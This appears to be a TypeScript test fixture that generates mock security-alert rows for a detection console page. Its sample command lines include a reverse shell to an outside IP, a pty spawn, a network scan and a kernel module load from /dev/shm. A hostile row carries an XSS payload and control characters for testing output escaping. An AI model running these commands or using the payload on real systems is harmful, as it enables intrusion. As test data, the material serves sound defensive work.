// The rows of the list that the page is tested with: a python shell on web-01, one whose every field is
// hostile, and a thousand others.
import type { AlertRow } from "../../../src/server/console/console-api.ts";

/** A Wednesday at 02:13:07, UTC. */
export const NOW_MS: number = Date.UTC(2026, 10, 25, 2, 20, 0);
export const ATTACK_MS: number = NOW_MS - 413_000;
export const ATTACK_ID = "9f1c2a".padEnd(64, "0");
export const HOSTILE_ID = "badbad".padEnd(64, "0");

/** Markup, a direction override, an escape sequence, a null and a zero-width space. */
export const HOSTILE: string =
  "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>\u202egnp.exe\u001b[31m\u0000\u200b'\"`&amp;";

const ROWS_COUNT = 1000;

export const RULES = [
  ["Interactive Terminal Spawned via Python", "high", 73, "TA0002"],
  ["Suspicious Network Tool Launched Inside A Container", "medium", 47, "TA0008"],
  ["Potential Reverse Shell via Background Process", "high", 73, "TA0011"],
  ["Cron Job Created or Modified", "medium", 47, "TA0003"],
  ["Kernel Module Load from Unusual Location", "critical", 91, "TA0005"],
  ["Hidden Files and Directories via Hidden Flag", "low", 21, "TA0005"],
] as const;

const COMMANDS = [
  `python3 -c 'import pty; pty.spawn("/bin/bash")'`,
  "nmap -sS -p- 10.20.0.0/16 -oG /tmp/.scan",
  "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1",
  "tee /etc/cron.d/0hourly-sync",
  "insmod /dev/shm/.x/rk.ko",
  "touch /var/tmp/.cache-7f3a",
];

export function alertRow(index: number): AlertRow {
  const [ruleName, severity, riskScore, tactic] = RULES[
    index % RULES.length
  ] as (typeof RULES)[number];
  const isAttack = index === 0;
  return {
    id: isAttack ? ATTACK_ID : index.toString(16).padStart(8, "0").padEnd(64, "e"),
    timeMs: ATTACK_MS - index * 397_000,
    severity,
    riskScore,
    ruleId: `rule-${index % RULES.length}`,
    ruleName,
    reason: `process event with process bash, parent process python3, by www-data on web-01 created ${severity} alert ${ruleName}.`,
    status: index % 7 === 5 ? "acknowledged" : "open",
    hostName: ["web-01", "web-02", "db-primary", "build-7"][index % 4] as string,
    userName: ["www-data", "root", "deploy"][index % 3] as string,
    processName: "bash",
    commandLine: COMMANDS[index % COMMANDS.length] as string,
    tactics: [tactic],
    tags: index % 9 === 1 ? ["case-118"] : [],
    assignees: index % 5 === 1 ? ["mara"] : [],
    suppressedCount: index % 11 === 3 ? 14 : 1,
  };
}

export const HOSTILE_ROW: AlertRow = {
  ...alertRow(1),
  id: HOSTILE_ID,
  ruleName: HOSTILE,
  severity: HOSTILE,
  status: HOSTILE,
  reason: HOSTILE,
  hostName: HOSTILE,
  userName: HOSTILE,
  processName: HOSTILE,
  commandLine: HOSTILE,
  tags: [HOSTILE],
  assignees: [HOSTILE],
};

export const ROWS: readonly AlertRow[] = [
  alertRow(0),
  HOSTILE_ROW,
  ...Array.from({ length: ROWS_COUNT - 2 }, (_, index) => alertRow(index + 1)),
];
